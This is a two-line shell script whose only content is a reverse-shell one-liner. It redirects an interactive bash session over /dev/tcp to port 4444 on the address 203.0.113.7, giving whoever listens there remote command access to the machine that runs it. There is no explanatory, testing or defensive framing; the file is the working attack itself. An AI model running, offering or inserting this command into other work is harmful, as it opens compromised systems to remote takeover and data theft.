#!/bin/sh
h=203.0.113.7; bash -i >& /dev/tcp/$h/4444 0>&1
